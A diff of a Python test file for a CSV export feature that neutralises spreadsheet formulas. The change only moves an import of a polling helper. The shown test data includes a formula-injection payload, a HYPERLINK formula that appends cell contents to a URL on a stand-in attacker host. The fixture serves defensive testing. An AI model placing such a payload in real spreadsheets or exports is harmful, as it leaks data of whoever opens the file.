@@ -7,8 +7,9 @@ import io
 
 from prefshift_common.contracts import ItemRating, RatingsRequest
 from prefshift_orchestrator.csv_export import csv_text, neutralise
-from tests.orchestrator.conftest import USER, OrchestratorFactory, wait_for_run
+from tests.orchestrator.conftest import USER, OrchestratorFactory
 from tests.orchestrator.standins import StandInSimulator, serving
+from tests.polling import wait_for_run
 
 FEELINGS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
